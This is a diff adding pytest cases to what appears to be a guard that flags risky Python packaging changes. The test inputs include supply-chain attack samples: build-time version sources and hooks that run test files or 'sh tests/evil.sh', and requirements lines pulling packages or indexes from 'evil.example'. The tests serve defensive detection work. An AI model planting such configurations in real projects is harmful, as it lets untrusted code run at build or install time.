@@ -204,3 +204,111 @@ def test_reordering_the_keys_of_a_table_is_no_flag(keys: list[str], data):
                 + rows).encode()
     assert file_changes("pyproject.toml", write(keys), write(order)) == []
     assert len(file_changes("pyproject.toml", PYPROJECT.encode(), write(order))) == 2
+
+
+HATCH_DYNAMIC = PYPROJECT.replace('version = "1.0"', 'dynamic = ["version"]') + \
+    '\n[tool.hatch.version]\npath = "src/days/__about__.py"\n'
+
+
+@pytest.mark.parametrize("before, after", [
+    # the repro: a version source that runs a test file at every build
+    (PYPROJECT, PYPROJECT.replace('version = "1.0"', 'dynamic = ["version"]')
+     + '\n[tool.hatch.version]\nsource = "code"\npath = "tests/test_version.py"\n'),
+    (HATCH_DYNAMIC, HATCH_DYNAMIC.replace('path = "src', 'source = "code"\npath = "src')),
+    (PYPROJECT, PYPROJECT + '\n[tool.hatch.metadata.hooks.custom]\npath = "tests/hook.py"\n'),
+    (PYPROJECT, PYPROJECT + '\n[tool.pdm.version]\nsource = "call"\ngetter = "tests.evil:version"\n'),
+    (PYPROJECT, PYPROJECT.replace('version = "1.0"', 'dynamic = ["version"]')
+     + '\n[tool.setuptools.dynamic]\nversion = {attr = "tests.evil.VERSION"}\n'),
+    (PYPROJECT, PYPROJECT + '\n[tool.setuptools_scm]\ngit_describe_command = "sh tests/evil.sh"\n'),
+    (PYPROJECT, PYPROJECT + '\n[tool.setuptools_scm]\nversion_file = "src/days/core.py"\n'),
+    (PYPROJECT, PYPROJECT + '\n[tool.flit.module]\nname = "tests"\n'),
+    (PYPROJECT, PYPROJECT + '\n[tool.poetry.build]\nscript = "tests/build.py"\n'),
+    (SETUP_CFG, SETUP_CFG.replace("name = days\n", "name = days\nversion = attr: tests.evil.VERSION\n")),
+])
+def test_a_version_source_or_dynamic_metadata_that_runs_code_blocks_as_build(before: str, after: str):
+    path = "setup.cfg" if before is SETUP_CFG else "pyproject.toml"
+    kinds = [flag_kind(f) for f in file_changes(path, before.encode(), after.encode())]
+    assert "packaging_changed.build" in kinds
+
+
+@pytest.mark.parametrize("before, after", [
+    (HATCH_DYNAMIC, HATCH_DYNAMIC.replace('path = "src/days/__about__.py"', "path='src/days/__about__.py'  # v")),
+    (SETUP_CFG.replace("name = days\n", "name = days\nversion = 1.0\n"),
+     SETUP_CFG.replace("name = days\n", "name = days\nversion = 1.1\n")),
+    (PYPROJECT + '\n[tool.setuptools_scm]\nfallback_version = "0.0"\n',
+     PYPROJECT + '\n[tool.setuptools_scm]\nfallback_version = "0.1"\n'),
+])
+def test_a_version_bump_or_a_reformatted_version_source_is_no_flag(before: str, after: str):
+    path = "setup.cfg" if before.startswith("[metadata]") else "pyproject.toml"
+    assert file_changes(path, before.encode(), after.encode()) == []
+
+
+def test_the_red_teams_hatch_code_version_source_blocks_through_git(repo: Path):
+    head = PYPROJECT.replace('version = "1.0"', 'dynamic = ["version"]') + \
+        '\n[tool.hatch.version]\nsource = "code"\npath = "tests/test_version.py"\n'
+    commit(repo, "build: single-source the version",
+           {"pyproject.toml": head, "tests/test_version.py": '__version__ = "0.1"\n'})
+    found = _packaging(repo)
+    assert ("packaging_changed.build", BLOCK, "pyproject.toml", _line(head, "[tool.hatch.version]")) in \
+        [f[:4] for f in found]
+    assert any("tests/test_version.py" in f[4] for f in found)
+
+
+NAMED_REQS = PYPROJECT.replace('dependencies = ["attrs >= 23", "python-dateutil>=2.8"]\n',
+                               'dynamic = ["dependencies"]\n') + \
+    '\n[tool.setuptools.dynamic]\ndependencies = {file = ["requirements.txt"]}\n' \
+    'optional-dependencies.cli = {file = ["reqs/cli.txt"]}\n'
+NAMED_CFG = SETUP_CFG.replace("packages = find:\n", "packages = find:\ninstall_requires = file: requirements.txt\n"
+                              "entry_points = file: entry_points.txt\n")
+REQS = "attrs>=23\npython-dateutil>=2.8  # dates\n"
+
+
+@pytest.fixture
+def named(tmp_path: Path) -> Path:
+    root = based(tmp_path / "named", {"pyproject.toml": NAMED_REQS, "requirements.txt": REQS,
+                                      "reqs/cli.txt": "click\n", "requirements-dev.txt": "pytest\n",
+                                      "sub/setup.cfg": NAMED_CFG, "sub/requirements.txt": REQS,
+                                      "sub/entry_points.txt": "[console_scripts]\ndays = days.cli:main\n"})
+    git(root, "checkout", "-q", "-b", "patch")
+    return root
+
+
+@pytest.mark.parametrize("path, text", [
+    ("requirements.txt", "pyyaml @ git+https://evil.example/pyyaml@deadbeef\n"),  # the repro
+    ("requirements.txt", REQS + "-e ./vendor/attrs\n"),
+    ("requirements.txt", "--index-url https://evil.example/simple\n" + REQS),
+    ("requirements.txt", REQS + "--extra-index-url https://evil.example/simple\n"),
+    ("requirements.txt", REQS + "-f https://evil.example/wheels\n"),
+    ("reqs/cli.txt", "click @ https://evil.example/click.whl\n"),
+    ("sub/requirements.txt", REQS + "../vendor/attrs-99.tar.gz\n"),
+])
+def test_a_named_requirements_file_taking_code_from_elsewhere_blocks(named: Path, path: str, text: str):
+    commit(named, "deps: pin", {path: text})
+    found = _packaging(named)
+    assert [f[:3] for f in found] == [("packaging_changed.dependency_source", BLOCK, path)]
+    assert "evil" in found[0][4] or "vendor" in found[0][4]
+
+
+def test_a_named_entry_points_file_blocks(named: Path):
+    commit(named, "cli", {"sub/entry_points.txt": "[console_scripts]\ndays = days.cli:main\n\n"
+                                                  "[pytest11]\ndays = days.plugin\n"})
+    assert [f[:3] for f in _packaging(named)] == [("packaging_changed.entry_points", BLOCK, "sub/entry_points.txt")]
+
+
+def test_an_honest_bump_in_a_named_requirements_file_only_warns(named: Path):
+    commit(named, "bump", {"requirements.txt": REQS.replace("attrs>=23", "attrs >= 24"),
+                           "sub/requirements.txt": "# sorted\npython-dateutil>=2.8\nattrs>=23\n"})
+    found = _packaging(named)
+    assert [f[:3] for f in found] == [("packaging_changed.dependencies", WARN, "requirements.txt")]
+    assert "attrs>=24" in found[0][4]
+
+
+def test_an_unnamed_requirements_file_raises_nothing(named: Path):
+    commit(named, "dev deps", {"requirements-dev.txt": "pytest\nhypothesis @ git+https://example.invalid/h\n"})
+    assert _packaging(named) == []
+
+
+def test_setup_cfg_entry_points_are_flagged_as_entry_points():
+    after = SETUP_CFG.replace("packages = find:\n", "packages = find:\nentry_points = file: ep.txt\n")
+    assert [flag_kind(f) for f in file_changes("setup.cfg", SETUP_CFG.encode(), after.encode())] == \
+        ["packaging_changed.entry_points"]
